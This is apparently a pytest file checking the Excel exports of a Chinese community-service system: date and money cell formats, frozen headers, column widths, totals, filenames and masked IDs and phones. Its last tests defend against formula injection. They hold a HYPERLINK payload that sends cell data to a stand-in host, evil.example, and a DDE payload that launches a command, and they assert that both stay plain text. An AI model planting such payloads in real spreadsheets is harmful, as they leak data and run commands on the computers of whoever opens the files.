"""Every Excel export read back the way an office reads it (issue #10, Excel standards): dates are date cells,
money is a number in #,##0.00, the header row is frozen, the columns are wide enough for what is in them, every
sheet ends with a totals row that agrees with the ledger, and the file has a Chinese name of its own."""

import io
import re
import unicodedata
from datetime import date, datetime, time
from urllib.parse import unquote

from openpyxl import load_workbook

from center.config import DEMO_PASSWORD
from center.services.dining.months import month_view
from center.services.identity import load_user
from center.tables import Canteen, Staff
from center.timeutil import LOCAL_TZ, local_today
from tests.factories import login, logout

MONEY = "#,##0.00"


def width_of(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def shown(cell) -> str:
    value = cell.value
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M") if cell.number_format.endswith("hh:mm") else value.strftime("%Y-%m-%d")
    if isinstance(value, time):
        return value.strftime("%H:%M")
    if isinstance(value, (int, float)) and cell.number_format == MONEY:
        return f"{value:,.2f}"
    return str(value)


def disposition_names(response) -> tuple[str, str]:
    """(the ASCII filename, the UTF-8 filename*) of an attachment."""
    header = response.headers["content-disposition"]
    match = re.fullmatch(r"attachment; filename=\"([A-Za-z0-9._-]+)\"; filename\*=UTF-8''([A-Za-z0-9%._-]+)", header)
    assert match, header
    return match.group(1), unquote(match.group(2))


def header_row(ws) -> int:
    """The frozen header: the row just above the freeze line."""
    assert ws.freeze_panes and re.fullmatch(r"A\d+", ws.freeze_panes), (ws.title, ws.freeze_panes)
    return int(ws.freeze_panes[1:]) - 1


def check_sheet(ws, *, date_columns=(), money_columns=()) -> dict:
    """The standards every sheet meets; returns its header (name -> column index) and totals row."""
    top = header_row(ws)
    header = {cell.value: cell.column - 1 for cell in ws[top] if cell.value}
    rows = list(ws.iter_rows(min_row=top + 1))
    total = next((r for r in rows if isinstance(r[0].value, str) and r[0].value.startswith("合计")), None)
    assert total is not None, f"{ws.title}: no totals row"
    body = rows[:rows.index(total)]
    for name in date_columns:
        for row in body:
            cell = row[header[name]]
            assert cell.is_date and isinstance(cell.value, (datetime, date, time)), (ws.title, name, cell.value)
    for name in money_columns:
        for row in [*body, total]:
            cell = row[header[name]]
            if cell.value is not None:
                assert isinstance(cell.value, (int, float)) and cell.number_format == MONEY, (ws.title, name, cell.value)
    for row in ws.iter_rows(min_row=top):
        for cell in row:
            text = shown(cell)
            if text:
                width = ws.column_dimensions[cell.column_letter].width
                assert width >= width_of(text), (ws.title, cell.coordinate, text, width)
    return {"header": header, "body": [[c.value for c in r] for r in body], "total": [c.value for c in total]}


async def user(name: str):
    return await load_user((await Staff.select(Staff.id).where(Staff.username == name).first())["id"])


async def test_the_canteen_ledger_export_meets_the_standards(demo_client):
    await login(demo_client, "manager", DEMO_PASSWORD)
    month = local_today().replace(day=1)
    canteen = await Canteen.select(Canteen.id, Canteen.code, Canteen.name).where(Canteen.code == "C01").first()
    response = await demo_client.get(f"/dining/months/export.xlsx?month={month:%Y-%m}&canteen={canteen['id']}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    view = await month_view(await user("manager"), canteen["id"], month)

    summary = check_sheet(book["汇总"], money_columns=("餐费合计（元）", "补贴应结算（元）", "老人自付（元）"))
    assert [r[0] for r in summary["body"]] == [canteen["name"]]
    subsidy = summary["header"]["补贴应结算（元）"]
    assert round(summary["total"][subsidy] * 100) == view["ledger_total_fen"] > 0

    detail = check_sheet(book["明细"], date_columns=("日期", "时间"),
                         money_columns=("餐费（元）", "补贴（元）", "自付（元）"))
    ids = [r[detail["header"]["身份证号"]] for r in detail["body"]]
    assert ids and all(re.fullmatch(r"\d{3}\*{11}[\dX]{4}", i) for i in ids)  # 18 characters, masked
    kept = [r for r in detail["body"] if r[detail["header"]["状态"]] == "正常"]
    assert round(sum(r[detail["header"]["补贴（元）"]] for r in kept) * 100) == view["ledger_total_fen"]
    assert round(detail["total"][detail["header"]["补贴（元）"]] * 100) == view["ledger_total_fen"]

    daily = check_sheet(book["按日"], date_columns=("日期",))
    assert daily["total"][1] == sum(r[1] for r in daily["body"]) == view["totals"]["meals"]
    kinds = check_sheet(book["按餐别"], money_columns=("餐费（元）", "补贴（元）", "自付（元）"))
    assert round(kinds["total"][3] * 100) == view["totals"]["subsidy_fen"]

    fallback, name = disposition_names(response)
    assert name == f"老年助餐台账-{month.year}年{month.month}月-{canteen['name']}.xlsx"
    assert fallback == f"dining-{month:%Y-%m}-canteen-{canteen['code'].lower()}.xlsx"
    await logout(demo_client)


async def test_the_district_center_and_canteen_files_are_named_apart(demo_client):
    month = local_today().strftime("%Y-%m")
    await login(demo_client, "admin", DEMO_PASSWORD)
    district = await demo_client.get(f"/dining/months/export.xlsx?month={month}")
    canteen_id = (await Canteen.select(Canteen.id).where(Canteen.code == "C05").first())["id"]
    one = await demo_client.get(f"/dining/months/export.xlsx?month={month}&canteen={canteen_id}")
    await logout(demo_client)
    await login(demo_client, "manager", DEMO_PASSWORD)
    center = await demo_client.get(f"/dining/months/export.xlsx?month={month}")
    await logout(demo_client)
    names = [disposition_names(r) for r in (district, one, center)]
    assert len({n for _, n in names}) == 3 and len({f for f, _ in names}) == 3
    assert names[0][1].endswith("-全区.xlsx") and names[2][1].endswith("-黛溪街道纸箱厂社区党群服务中心.xlsx")
    book = load_workbook(io.BytesIO(district.content))
    summary = check_sheet(book["汇总"], money_columns=("补贴应结算（元）",))
    assert len(summary["body"]) == 12  # every canteen of the district
    view = await month_view(await user("admin"), None, local_today().replace(day=1))
    assert round(summary["total"][summary["header"]["补贴应结算（元）"]] * 100) == view["ledger_total_fen"]


async def test_the_one_window_export_meets_the_standards(demo_client):
    await login(demo_client, "manager", DEMO_PASSWORD)
    month = local_today().strftime("%Y-%m")
    response = await demo_client.get(f"/counter/stats/export.xlsx?month={month}")
    book = load_workbook(io.BytesIO(response.content))
    summary = check_sheet(book["汇总"])
    values = {r[0]: r[1] for r in summary["body"]}
    assert summary["total"][1] == values["咨询答复"] + values["受理"]
    for title in ("按类别", "按事项", "按社工"):
        sheet = check_sheet(book[title])
        for column in ("咨询答复", "受理", "办结", "不予受理", "在办"):
            i = sheet["header"][column]
            assert sheet["total"][i] == sum(r[i] for r in sheet["body"]) == values[column], (title, column)
    cases = check_sheet(book["办件明细"], date_columns=("受理时间",))
    assert cases["total"][1] == f"{len(cases['body'])} 件" and len(cases["body"]) == values["咨询答复"] + values["受理"]
    due = [r[cases["header"]["承诺办结"]] for r in cases["body"] if r[cases["header"]["承诺办结"]] is not None]
    assert due and all(isinstance(d, datetime) for d in due)  # a date cell (openpyxl reads dates as datetimes)
    fallback, name = disposition_names(response)
    assert name == f"窗口统计-{month[:4]}年{int(month[5:])}月-黛溪街道纸箱厂社区党群服务中心.xlsx"
    assert fallback == f"one-window-{month}-center-daxi.xlsx"
    await logout(demo_client)


async def test_the_hall_sheets_read_back_with_the_figures_of_known_tickets(client, db):
    """Five tickets of October 2026 with known times (tests/support/hall_month.py works the numbers out)."""
    from tests.support.hall_month import MONTH, known_hall_month

    hall = await known_hall_month(db)
    await login(client, hall["manager"]["username"])
    response = await client.get(f"/counter/stats/export.xlsx?month={MONTH}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    sheet = check_sheet(book["取号叫号"])
    h = sheet["header"]
    rows = {(r[h["分组"]], r[h["名称"]]): r for r in sheet["body"]}

    def figures(row) -> tuple:
        return tuple(row[h[c]] for c in ("取号", "叫号", "办结", "过号", "过号率(%)", "优先号", "优先号占比(%)",
                                         "等候中位数(分钟)", "等候90%分位(分钟)", "办理中位数(分钟)",
                                         "办理90%分位(分钟)"))

    assert figures(sheet["total"]) == (5, 5, 4, 1, 20.0, 2, 40.0, 8.0, 16.8, 5.5, 8.8)
    assert figures(rows[("队列", "A 社保医保")]) == (3, 3, 2, 1, 33.3, 0, 0.0, 8.0, 11.2, 8.0, 9.6)
    assert figures(rows[("队列", "B 民政老龄")])[:3] == (2, 2, 2)
    assert figures(rows[("窗口", "1号窗口")])[7:9] == (4.0, 7.2)
    assert figures(rows[("社工", "李华")])[7:9] == (16.0, 19.2)
    assert figures(rows[("时段", "09:00–09:59")]) == figures(rows[("队列", "A 社保医保")])
    assert figures(rows[("时段", "08:00–08:59")]) == (0, 0, 0, 0, None, 0, None, None, None, None, None)
    assert [k[1] for k in rows if k[0] == "时段"][0] == "08:00–08:59" and len([k for k in rows if k[0] == "时段"]) == 13  # 8 to 20 o'clock
    # Each ticket counts once per grouping: the queues' and the hours' tickets add up to the period's.
    for group in ("队列", "时段"):
        assert sum(r[h["取号"]] for k, r in rows.items() if k[0] == group) == 5, group

    daily = check_sheet(book["取号每日"], date_columns=("日期",))
    assert len(daily["body"]) == 31  # every day of October, empty ones too
    counted = {r[0].date(): r[1] for r in daily["body"] if r[1]}
    assert counted == {date(2026, 10, 12): 4, date(2026, 10, 13): 1} and daily["total"][1] == 5
    notes = {r[0]: r[1] for r in check_sheet(book["汇总"])["body"]}
    assert notes["过号率口径"] == "过号 ÷ 叫号"
    await logout(client)


async def test_the_rating_sheet_reads_back_with_the_figures_of_known_ratings(client, db):
    """Ten ratings with known follow-ups (tests/support/rating_month.py works the numbers out)."""
    from tests.support.rating_month import MONTH, known_rating_month

    known = await known_rating_month(db)
    await login(client, known["manager"]["username"])
    response = await client.get(f"/counter/stats/export.xlsx?month={MONTH}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    sheet = check_sheet(book["好差评"])
    h = sheet["header"]
    rows = {(r[h["分组"]], r[h["名称"]]): r for r in sheet["body"]}

    def figures(row) -> tuple:
        return tuple(row[h[c]] for c in ("评价", "好评", "差评", "好评率(%)", "核实属实率(%)", "整改率(%)",
                                         "按期整改率(%)", "回访率(%)"))

    assert figures(sheet["total"]) == (8, 4, 4, 50.0, 66.7, 100.0, 50.0, 25.0)
    assert figures(rows[("社工", "张敏")]) == (4, 4, 0, 100.0, None, None, None, 50.0)  # empty cells, not 0
    assert figures(rows[("社工", "李华")]) == (4, 0, 4, 0.0, 66.7, 100.0, 50.0, 0.0)
    assert figures(rows[("窗口", "1号窗口")])[:4] == (3, 3, 0, 100.0)
    assert figures(rows[("窗口", "2号窗口")])[:4] == (4, 0, 4, 0.0)
    assert ("窗口", "（未记录窗口）") in rows
    # Each rating counts once per grouping: the workers' and the windows' ratings add up to the period's.
    for group in ("社工", "窗口"):
        for column in ("评价", "好评", "差评", "核实属实", "已整改", "回访"):
            assert sum(r[h[column]] for k, r in rows.items() if k[0] == group) == sheet["total"][h[column]], (
                group, column)
    notes = {r[0]: r[1] for r in check_sheet(book["汇总"])["body"]}
    assert notes["好评率口径"] == "非常满意、满意、基本满意 ÷ 全部评价" and notes["好差评计入"] == "申诉成立的评价不计入"
    await logout(client)


HOSTILE = {
    "item": '=HYPERLINK("http://evil.example/x?"&C2,"打开")',
    "resident": "=1+2",
    "canteen": "@SUM(1+1)*cmd|' /C calc'!A0",
    "senior": "+1-2",
}


def formulas(book) -> list[str]:
    """Every cell a spreadsheet program would compute. The project writes none: totals are values."""
    return [f"{ws.title}!{cell.coordinate}={cell.value}" for ws in book.worksheets for row in ws.iter_rows()
            for cell in row if cell.data_type == "f"]


def texts(book) -> set[str]:
    return {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if isinstance(cell.value, str)}


async def test_no_text_from_the_data_becomes_a_formula_in_any_export(demo_client):
    """Issue #11, finding 5: names that begin with =, +, -, @ reach both workbooks as the text they are."""
    from center.tables import Case, Item, Meal, Senior, Visit

    month = local_today().replace(day=1)
    start = datetime(month.year, month.month, 1, tzinfo=LOCAL_TZ)
    case = await Case.select(Case.item, Case.visit).where(
        (Case.center.slug == "daxi") & (Case.accepted_at >= start)).first()
    await Item.update({Item.name: HOSTILE["item"]}).where(Item.id == case["item"])
    await Visit.update({Visit.resident_name: HOSTILE["resident"]}).where(Visit.id == case["visit"])
    canteen = await Canteen.select(Canteen.id).where(Canteen.code == "C01").first()
    meal = await Meal.select(Meal.senior).where(
        (Meal.canteen == canteen["id"]) & (Meal.eaten_at >= start)).first()
    await Canteen.update({Canteen.name: HOSTILE["canteen"]}).where(Canteen.id == canteen["id"])
    await Senior.update({Senior.name: HOSTILE["senior"]}).where(Senior.id == meal["senior"])

    await login(demo_client, "manager", DEMO_PASSWORD)
    counter = load_workbook(io.BytesIO((await demo_client.get(f"/counter/stats/export.xlsx?month={month:%Y-%m}")).content))
    dining_book = load_workbook(io.BytesIO(
        (await demo_client.get(f"/dining/months/export.xlsx?month={month:%Y-%m}&canteen={canteen['id']}")).content))
    await logout(demo_client)

    assert formulas(counter) == [] and formulas(dining_book) == []
    assert {HOSTILE["item"], "=***"} <= texts(counter)  # the item as typed; the resident masked, still text
    assert {HOSTILE["canteen"], "+***"} <= texts(dining_book)
    for book, value in ((counter, HOSTILE["item"]), (dining_book, HOSTILE["canteen"])):
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == value]
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)  # stays text when edited


async def test_the_demands_export_meets_the_standards_masks_contacts_and_keeps_formulas_as_text(demo_client):
    """民情诉求: each sheet with its frozen header, fitted widths and totals; dates as date cells; the rates by grid
    add up to the month's; names and phones masked; an address typed as a formula stays text."""
    from center.tables import Demand

    month = "2026-12"
    demand = await Demand.select(Demand.id, Demand.phone).where(
        (Demand.center.slug == "daxi") & (Demand.phone != "")).order_by(Demand.id, ascending=False).first()
    await Demand.update({Demand.address: HOSTILE["item"]}).where(Demand.id == demand["id"])
    await login(demo_client, "manager", DEMO_PASSWORD)
    response = await demo_client.get(f"/demands/figures.xlsx?month={month}")
    await logout(demo_client)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    sheets = {ws.title: check_sheet(ws, date_columns=("受理时间",) if ws.title == "工单明细" else ())
              for ws in book.worksheets}
    by_grid = sheets["按网格"]
    h = by_grid["header"]
    assert sum(r[h["工单"]] for r in by_grid["body"]) == by_grid["total"][h["工单"]]
    assert sum(r[h["按时签收"]] for r in by_grid["body"]) == by_grid["total"][h["按时签收"]]
    detail = sheets["工单明细"]
    phones = [r[detail["header"]["联系电话"]] for r in detail["body"]]
    assert phones and all("****" in p for p in phones if p) and demand["phone"] not in phones
    assert formulas(book) == [] and HOSTILE["item"] in texts(book)
